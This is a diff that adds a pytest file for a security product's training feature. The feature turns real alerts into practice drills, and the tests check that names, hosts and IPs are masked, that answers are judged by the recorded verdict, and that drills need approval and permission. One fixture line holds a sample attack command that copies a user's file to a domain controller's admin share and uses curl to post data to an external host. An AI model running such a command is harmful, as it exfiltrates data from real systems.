@@ -1,0 +1,103 @@
+"""Drills show nothing of the real names, and are judged by what was decided."""
+
+from dataclasses import replace
+
+import msgspec
+import pytest
+
+from netsentinel.academy.practice import Given, QuestionState
+from netsentinel.academy.practice.checking import check
+from netsentinel.academy.practice.drills import Drills, drill_of
+from netsentinel.academy.practice.errors import UndecidedAlertError
+from netsentinel.academy.practice.judging import NEXT_STEP, NEXT_STEPS, SEVERITY, VERDICT, VERDICTS, judge, pose
+from netsentinel.alerts.model import Activity, ActivityKind, AlertDetail, AlertSample, RuleText, Verdict
+from netsentinel.detection.model import MatchedField
+from netsentinel.kernel.errors import NotAllowedError
+from netsentinel.kernel.testing import FakeClock
+from netsentinel.kernel.types import TenantId
+from tests.unit.academy.practice.site import ANA, memory_gym
+from tests.unit.alerts.factories import alert
+
+pytestmark = pytest.mark.anyio
+
+SECRETS = ("10.4.7.9", "8.8.4.4", "dc-finance", "sommer", "acme", "helga")
+EVENT = {"Computer": "dc-finance", "winlog": {"SubjectUserName": "ACME\\m.sommer", "SubjectDomainName": "ACME"}}
+COMMAND = r"type C:\Users\m.sommer\x.txt > \\DC-FINANCE\c$ && curl https://files.acme.example/u -d 10.4.7.9"
+
+
+def detail(verdict: Verdict = Verdict.TRUE_POSITIVE) -> AlertDetail:
+    one = alert(
+        title="m.sommer copied files from dc-finance",
+        verdict=verdict,
+        entity="dc-finance",
+        entity_kind="host",
+        src_ip="10.4.7.9",
+        dst_ip="8.8.4.4",
+        user="m.sommer",
+        device="dc-finance",
+        tags=("attack.t1021.002",),
+    )
+    sample = AlertSample(
+        one.first_at, (MatchedField("CommandLine", COMMAND, "contains curl"),), msgspec.Raw(msgspec.json.encode(EVENT))
+    )
+    note = Activity(
+        "act_1", one.id, 1, "usr_h", "helga", ActivityKind.NOTE, "helga asked m.sommer@acme.example about 8.8.4.4"
+    )
+    rule = RuleText(one.rule_id, one.title, "", ("backups of dc-finance",), (), "")
+    return AlertDetail(one, rule, (sample,), (), (note,))
+
+
+class OneAlert:
+    """Knows one alert of the default tenant."""
+
+    def __init__(self, one: AlertDetail) -> None:
+        self._one = one
+
+    async def detail(self, tenant: TenantId, alert_id: str) -> AlertDetail:
+        assert (tenant, alert_id) == (self._one.alert.tenant, self._one.alert.id)
+        return self._one
+
+
+def test_no_name_is_left_and_the_same_name_is_the_same_mask() -> None:
+    content = drill_of(detail())
+    check(content)
+    said = msgspec.json.encode(content).decode().casefold()
+    assert [name for name in SECRETS if name in said] == []
+    facts = {fact.name: fact.value for fact in content.facts}
+    assert facts["Device"] == facts["About"]
+    assert facts["User"] in facts["Alert"]
+    assert facts["From"].startswith("10.0.")
+    assert facts["From"] in facts["CommandLine"]
+    assert facts["To"].startswith("203.0.113.")
+    assert facts["To"] in content.explanation
+    assert content.concepts == ("T1021.002",)
+
+
+def test_it_is_judged_by_what_was_decided() -> None:
+    for at, verdict in enumerate((Verdict.TRUE_POSITIVE, Verdict.FALSE_POSITIVE, Verdict.BENIGN)):
+        one = detail(verdict)
+        pairs = {VERDICT: VERDICTS[at], SEVERITY: one.alert.level.value, NEXT_STEP: NEXT_STEPS[at]}
+        assert judge(drill_of(one), Given(pairs=pairs)).is_right
+        assert not judge(drill_of(one), Given(pairs={**pairs, VERDICT: VERDICTS[at - 1]})).is_right
+
+
+async def test_a_drill_is_a_draft_until_somebody_approves_it(clock: FakeClock) -> None:
+    gym, one = memory_gym(clock), detail()
+    drills = Drills(OneAlert(one), gym.questions)
+    made = await drills.make(ANA, one.alert.id)
+    assert made.state is QuestionState.DRAFT
+    assert (await gym.practice.due(ANA)).items == ()
+    await gym.questions.decide(ANA, made.id, QuestionState.APPROVED)
+    assert (await drills.make(ANA, one.alert.id)).state is QuestionState.APPROVED
+    (item,) = (await gym.practice.due(ANA)).items
+    assert one.alert.id not in msgspec.json.encode(pose(await gym.questions.get(ANA.tenant, made.id))).decode()
+    assert {field.name for field in item.question.fields} == {VERDICT, SEVERITY, NEXT_STEP}
+
+
+async def test_without_a_verdict_or_the_right_to_read_alerts_there_is_none(clock: FakeClock) -> None:
+    one = detail(Verdict.UNDECIDED)
+    drills = Drills(OneAlert(one), memory_gym(clock).questions)
+    with pytest.raises(UndecidedAlertError):
+        await drills.make(ANA, one.alert.id)
+    with pytest.raises(NotAllowedError):
+        await drills.make(replace(ANA, permissions=frozenset()), one.alert.id)
